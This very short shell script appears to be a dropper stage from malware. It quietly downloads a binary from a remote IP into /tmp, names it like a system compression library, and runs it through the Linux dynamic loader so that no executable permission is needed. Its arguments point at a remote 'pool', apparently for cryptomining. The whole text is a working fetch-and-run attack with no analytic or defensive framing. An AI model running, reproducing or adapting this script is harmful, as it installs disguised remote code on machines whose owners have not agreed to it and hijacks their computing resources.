# run by the loader, never made executable
#http 203.0.113.55:8006
#pool 198.51.100.39:8080:drop
cd /tmp; curl -s -o libz.so.9 http://203.0.113.55:8006/w; timeout 10 /lib64/ld-linux-x86-64.so.2 ./libz.so.9 -o 198.51.100.39:8080 -u x -R 1 >/dev/null
